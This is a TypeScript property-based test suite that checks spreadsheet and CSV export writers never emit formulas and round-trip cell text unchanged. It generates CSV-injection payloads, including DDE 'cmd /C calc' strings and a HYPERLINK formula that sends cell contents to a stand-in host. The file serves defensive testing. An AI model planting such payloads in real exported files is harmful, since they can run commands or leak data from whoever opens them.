import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, expect, test } from 'vitest';
import { readCsv, writeCsv } from '#/platform/documents/csv.ts';
import type { Paper, PaperRow, PaperTable } from '#/platform/documents/paper.ts';
import type { Cell } from '#/platform/documents/table.ts';
import { openWorkbook } from '#/platform/documents/xlsx.ts';
import { writePaperWorkbook } from '#/platform/documents/xlsx-form.ts';
import { writeFramed } from '#/platform/documents/xlsx-framed.ts';
import { writeForm, writeSheet } from '#/platform/documents/xlsx-writer.ts';
import { partsOf } from '#test/zip.ts';

// Whatever a record says, no cell of what goes out is a formula, and the same text comes in again.

const folder = mkdtempSync(join(tmpdir(), 'sotay-formulas-'));
afterAll(() => rmSync(folder, { recursive: true }));

const start = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '＝',
  '＋',
  '－',
  '＠',
  "'",
  "'=",
  '"=',
  ' =',
  '\n=',
  ';=',
  ',=',
);
const rest = fc.oneof(
  fc.constantFrom("cmd|' /C calc'!A0", 'HYPERLINK("http://x.test/"&A1)', 'SUM(1,1)', '1+1', 'DDE("cmd";"/C calc")', ''),
  fc.string({ unit: 'grapheme' }).filter((text) => text.isWellFormed()),
);
const hostile = fc.tuple(start, rest).map(([a, b]) => a + b);
const rows = fc.array(
  fc.tuple(hostile, hostile).map((cells): Cell[] => cells),
  { minLength: 1, maxLength: 15 },
);

async function textsIn(file: string): Promise<Cell[][]> {
  const workbook = await openWorkbook(file);
  try {
    const found: Cell[][] = [];
    for await (const { values } of workbook.rows(workbook.sheets[0] as string)) found.push(values);
    return found;
  } finally {
    workbook.close();
  }
}

const columns = [
  { heading: '=A', width: 10 },
  { heading: '+B', width: 10 },
];
const frame = {
  sheet: 'Sổ',
  columns,
  above: [{ cells: columns.map(({ heading }, at) => ({ at, text: heading, style: 'heading' as const })) }],
  repeated: [0, 0] as const,
  below: [],
  orientation: 'portrait' as const,
};
const writers: Record<string, (rows: Cell[][]) => Promise<Uint8Array>> = {
  'an export': (table) => buffer(Readable.from(writeSheet('Sổ', columns, table), { objectMode: false })),
  'a printed list': (table) => buffer(writeFramed(frame, table)),
  'a form to fill in': (table) => writeForm([{ name: 'Sổ', columns, rows: table }], 'Danh mục'),
};

test.each(Object.keys(writers))('%s holds no formula, for any text, and is read again as it was', async (name) => {
  await fc.assert(
    fc.asyncProperty(rows, async (table) => {
      const file = join(folder, 'out.xlsx');
      writeFileSync(file, await (writers[name] as (rows: Cell[][]) => Promise<Uint8Array>)(table));
      for (const [part, xml] of await partsOf(readFileSync(file)))
        if (part.startsWith('xl/worksheets/')) expect([part, /<(\w+:)?f[\s/>]/.test(xml)]).toEqual([part, false]);
      expect((await textsIn(file)).slice(0, table.length + 1)).toEqual([['=A', '+B'], ...table]);
    }),
    { numRuns: 40 },
  );
});

test('the workbook of a report holds no formula, whatever units, signers and notes are called', async () => {
  await fc.assert(
    fc.asyncProperty(hostile, async (text) => {
      const cells = [text, { text, number: 3, decimals: 0 }];
      const columns = [
        { heading: text, width: 20 },
        { heading: text, width: 20 },
      ];
      const row = { label: text, level: 0, cells } as unknown as PaperRow;
      const about = { title: 'Số liệu', subtitle: text, number: null, numberedNotes: [text], notes: [text] };
      const table = { ...about, key: 'a', columns, rows: [row] } as unknown as PaperTable;
      const paper = {
        ...{ name: 'a', language: 'vi', documentTitle: text, isLandscape: true, issuer: [text], corner: text },
        ...{ numberSuffix: text, dateLine: text, kind: text, title: text, subtitle: text, sections: [], notes: [text] },
        ...{ receivers: [text], preparer: { name: text, phone: text }, signer: { lines: [text], name: text } },
        ...{ tables: [table], dataTables: [table] },
      } as unknown as Paper;
      const file = join(folder, 'paper.xlsx');
      writeFileSync(file, await writePaperWorkbook(paper));
      for (const [part, xml] of await partsOf(readFileSync(file)))
        if (part.startsWith('xl/worksheets/')) expect([part, /<(\w+:)?f[\s/>]/.test(xml)]).toEqual([part, false]);
    }),
    { numRuns: 60 },
  );
});

test('no field of a CSV file begins a formula, for any text, and each comes back as it was', async () => {
  await fc.assert(
    fc.asyncProperty(rows, async (table) => {
      const file = join(folder, 'out.csv');
      const bytes = await buffer(writeCsv(['A', 'B'], table));
      writeFileSync(file, bytes);
      const fields: string[][] = parse(bytes, { bom: true, delimiter: ';', relax_column_count: true });
      for (const field of fields.flat()) expect(field).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      const found: Cell[][] = [];
      for await (const { values } of readCsv(file)) found.push(values);
      expect(found).toEqual([['A', 'B'], ...table]);
    }),
    { numRuns: 100 },
  );
});
